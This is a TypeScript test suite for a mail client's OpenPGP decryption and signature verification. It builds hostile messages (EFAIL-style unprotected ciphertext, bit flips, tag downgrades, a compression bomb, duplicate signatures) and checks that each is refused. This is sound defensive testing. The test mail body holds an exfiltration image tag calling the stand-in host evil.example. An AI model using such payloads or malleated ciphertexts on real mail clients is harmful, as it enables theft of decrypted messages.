import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import {
  config,
  createMessage,
  encryptSessionKey,
  enums,
  generateKey,
  type PrivateKey,
  readKey,
  SymEncryptedIntegrityProtectedDataPacket,
  SymmetricallyEncryptedDataPacket,
  sign,
} from 'openpgp';
import type { LayerReport } from '#domain/mail/verdict.ts';
import { readArmour } from '#node/crypto/openpgp/armour.ts';
import { encryptOpenPgp, MESSAGE_BYTES_MAX } from '#node/crypto/openpgp/encrypt.ts';
import { type Opening, openOpenPgp } from '#node/crypto/openpgp/open.ts';
import { packet, TAG } from '#node/crypto/openpgp/packets.ts';
import { signDetached } from '#node/crypto/openpgp/sign.ts';
import { literalPacket } from '#node/crypto/openpgp/signer.ts';
import { verifyDetached } from '#node/crypto/openpgp/verify.ts';
import { knowing, type OurKey, OurSide, trusted } from './our-side.ts';

const MAIL = Buffer.from('Content-Type: text/html\r\n\r\n<img src="http://evil.example/?secret">\r\n');
const KEY = { data: new Uint8Array(randomBytes(32)), algorithm: 'aes256' } as const;

interface DataPacket {
  packets: { write(): Uint8Array };
  version?: number;
  encrypt(cipher: number, key: Uint8Array, settings: object): Promise<unknown>;
  write(): Uint8Array;
}

describe('a hostile OpenPGP message', () => {
  let ours: OurSide;
  let own: OurKey;
  let sessionKeyPackets: Uint8Array;
  before(async () => {
    ours = await OurSide.start();
    own = await ours.make('rsa3072');
    const encryptionKeys = await readKey({ binaryKey: Uint8Array.from(own.publicKey) });
    sessionKeyPackets = await encryptSessionKey({ ...KEY, encryptionKeys, format: 'binary' });
  });
  after(() => ours.gateway.stop());

  /** A message to our key whose encrypted packet holds these octets. */
  async function sealed(inside: Uint8Array, kind: 'seipd' | 'unprotected' = 'seipd'): Promise<Buffer> {
    const protectedOne = kind === 'seipd';
    const made = protectedOne
      ? new SymEncryptedIntegrityProtectedDataPacket()
      : new SymmetricallyEncryptedDataPacket();
    const data = made as unknown as DataPacket;
    if (protectedOne) data.version = 1;
    data.packets = { write: () => new Uint8Array(inside) };
    await data.encrypt(enums.symmetric.aes256, KEY.data, config);
    return Buffer.concat([
      sessionKeyPackets,
      packet(protectedOne ? TAG.seipd : TAG.symmetricallyEncrypted, data.write()),
    ]);
  }

  const open = (message: Uint8Array, budgetBytes = 1_000_000): Promise<Opening> =>
    openOpenPgp({ ...ours.opening(own, [], { remainingBytes: budgetBytes }), message });

  function refused(opening: Opening): LayerReport {
    assert.equal(opening.kind, 'not-opened');
    assert.equal(opening.layers.length, 1);
    assert.ok(!JSON.stringify(opening).includes('secret'));
    return opening.layers[0] as LayerReport;
  }

  it('without integrity protection is never released (threat 1, EFAIL)', async () => {
    const layer = refused(await open(await sealed(literalPacket(MAIL), 'unprotected')));
    assert.ok(layer.kind === 'encrypted' && layer.outcome === 'failed' && !layer.authenticated);
  });

  it('with one octet changed anywhere in its data is never released (threat 1)', async () => {
    const good = await sealed(literalPacket(MAIL));
    assert.equal((await open(good)).kind, 'opened');
    for (const back of [1, 10, 21, 22, 23, 40, 60, 100]) {
      const bad = Buffer.from(good);
      bad[bad.length - back] = (bad[bad.length - back] as number) ^ 1;
      refused(await open(bad));
    }
    refused(await open(good.subarray(0, good.length - 22))); // without its end
  });

  it('turned from protected to unprotected by its packet tag is not released (threat 1)', async () => {
    const good = await sealed(literalPacket(MAIL));
    const body = good.subarray(sessionKeyPackets.length + 7);
    refused(await open(Buffer.concat([sessionKeyPackets, packet(TAG.symmetricallyEncrypted, body)])));
  });

  it('with a session key packet that does not decrypt fails like a damaged one (threat 32)', async () => {
    const good = await sealed(literalPacket(MAIL));
    const bad = Buffer.from(good);
    bad[100] = (bad[100] as number) ^ 1; // in the RSA block
    const damaged = Buffer.from(good);
    damaged[damaged.length - 5] = (damaged[damaged.length - 5] as number) ^ 1;
    assert.deepEqual(refused(await open(bad)), refused(await open(damaged)));
  });

  it('cannot unpack more than the budget of the whole mail (threat 24)', async () => {
    const bomb = packet(
      TAG.compressed,
      Buffer.from([enums.compression.zip]),
      deflateRawSync(literalPacket(Buffer.alloc(3_000_000))),
    );
    const budget = { remainingBytes: 4_000_000 };
    const message = await sealed(bomb);
    const opened = await openOpenPgp({ ...ours.opening(own, [], budget), message });
    assert.equal(opened.kind, 'opened');
    assert.ok(budget.remainingBytes < 1_000_000);
    const again = await openOpenPgp({ ...ours.opening(own, [], budget), message });
    assert.equal(again.kind, 'not-opened');
  });

  it('cannot nest compression, encryption, or several contents', async () => {
    const compressed = (inside: Uint8Array): Buffer =>
      packet(TAG.compressed, Buffer.from([enums.compression.zip]), deflateRawSync(inside));
    const literal = literalPacket(MAIL);
    refused(await open(await sealed(compressed(compressed(literal)))));
    refused(await open(await sealed(compressed(await sealed(literal)))));
    refused(await open(await sealed(await sealed(literal))));
    refused(await open(await sealed(Buffer.concat([literal, literal]))));
    refused(await open(await sealed(Buffer.concat([compressed(literal), literal]))));
    refused(await open(await sealed(Buffer.alloc(0))));
  });

  it('with data after the encrypted packet is not released', async () => {
    const good = await sealed(literalPacket(MAIL));
    refused(await open(Buffer.concat([good, literalPacket(Buffer.from('more'))])));
    refused(await open(Buffer.concat([good, good])));
  });

  it('of any octets neither throws nor opens (fuzz)', async () => {
    const good = await sealed(literalPacket(MAIL));
    const changes = fc.array(fc.tuple(fc.nat(good.length - 1), fc.nat(255)), { minLength: 1, maxLength: 4 });
    await fc.assert(
      fc.asyncProperty(changes, async (list) => {
        const bad = Buffer.from(good);
        for (const [at, value] of list) bad[at] = value;
        const opening = await open(bad);
        // What is not authenticated (headers of packets, key ids) may be changed without harm to the content.
        if (opening.kind === 'opened') assert.deepEqual(Buffer.from(opening.content), MAIL);
      }),
      { numRuns: 300, seed: 9580 },
    );
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), async (bytes) => {
        assert.equal((await open(bytes)).kind, 'not-opened');
      }),
      { numRuns: 300, seed: 4880 },
    );
  });

  it('too large for memory is refused, not tried', async () => {
    const request = {
      recipients: [{ publicKey: own.publicKey, hidden: false }],
      signer: null,
      atMs: Date.now(),
    };
    await assert.rejects(encryptOpenPgp({ ...request, content: Buffer.alloc(MESSAGE_BYTES_MAX + 1) }), {
      code: 'too-large',
    });
  });
});

describe('a hostile OpenPGP signature', () => {
  let ours: OurSide;
  let own: OurKey;
  let other: PrivateKey;
  const request = { content: MAIL, atMs: Date.now(), whole: true };
  before(async () => {
    ours = await OurSide.start();
    own = await ours.make('curve25519');
    ({ privateKey: other } = await generateKey({
      userIDs: [{ email: 'eve@example.net' }],
      format: 'object',
    }));
  });
  after(() => ours.gateway.stop());

  const signature = async (content = MAIL) =>
    (await signDetached(content, ours.signer(own), Date.now())).signature;
  const binarySignature = async (content = MAIL): Promise<Buffer> =>
    readArmour(await signature(content))[0]?.binary as Buffer;

  it('beside a second one is not verified, whichever is right (threat 7)', async () => {
    const message = await createMessage({ binary: new Uint8Array(MAIL) });
    const eve = await sign({ message, signingKeys: other, detached: true, format: 'binary' });
    const keys = [trusted(own.publicKey), trusted(other.toPublic().write())];
    for (const pair of [
      [await binarySignature(), eve as Uint8Array],
      [eve as Uint8Array, await binarySignature()],
      [await binarySignature(), await binarySignature(Buffer.from('other'))],
    ]) {
      const report = await verifyDetached({
        ...request,
        signature: Buffer.concat(pair),
        findSigners: knowing(...keys),
      });
      assert.equal(report.problem, 'several-signers');
      assert.equal(report.signer, null);
    }
  });

  it('of a key that is unknown, untrusted, or another one with the same claim is told so', async () => {
    const made = await signature();
    const unknown = await verifyDetached({ ...request, signature: made, findSigners: knowing() });
    assert.equal(unknown.problem, 'signer-key-unknown');
    const untrusted = { publicKey: own.publicKey, trusted: false };
    const report = await verifyDetached({ ...request, signature: made, findSigners: knowing(untrusted) });
    assert.equal(report.problem, 'not-trusted');
    assert.deepEqual(report.signer?.addresses, ['alice@example.org']);
    const wrongKey = trusted(other.toPublic().write());
    const wrong = await verifyDetached({ ...request, signature: made, findSigners: knowing(wrongKey) });
    assert.equal(wrong.problem, 'signer-key-unknown');
  });

  it('that is nothing, no signature, or a flood is malformed', async () => {
    const findSigners = knowing(trusted(own.publicKey));
    const bad = [Buffer.alloc(0), randomBytes(100), literalPacket(MAIL), Buffer.alloc(1_000_000, 0x88)];
    for (const made of bad) {
      const report = await verifyDetached({ ...request, signature: made, findSigners });
      assert.equal(report.outcome, 'not-verified');
      assert.equal(report.problem, 'malformed');
    }
  });

  it('of a revoked or expired key is not valid', async () => {
    const { privateKey, revocationCertificate } = await generateKey({
      userIDs: [{ email: 'bob@example.net' }],
      keyExpirationTime: 3600,
      date: new Date(Date.now() - 7200_000),
      format: 'object',
    });
    const message = await createMessage({ binary: new Uint8Array(MAIL) });
    const during = new Date(Date.now() - 7000_000);
    const made = (await sign({
      message,
      signingKeys: privateKey,
      detached: true,
      format: 'binary',
      date: during,
    })) as Uint8Array;
    const valid = trusted(privateKey.toPublic().write());
    const expired = await verifyDetached({ ...request, signature: made, findSigners: knowing(valid) });
    assert.equal(expired.outcome, 'valid'); // Made while the key was valid.
    const { revokeKey } = await import('openpgp');
    const { publicKey } = await revokeKey({
      key: privateKey.toPublic(),
      revocationCertificate,
      format: 'object',
    });
    const revoked = await verifyDetached({
      ...request,
      signature: made,
      findSigners: knowing(trusted(publicKey.write())),
    });
    assert.equal(revoked.problem, 'revoked');
  });
});
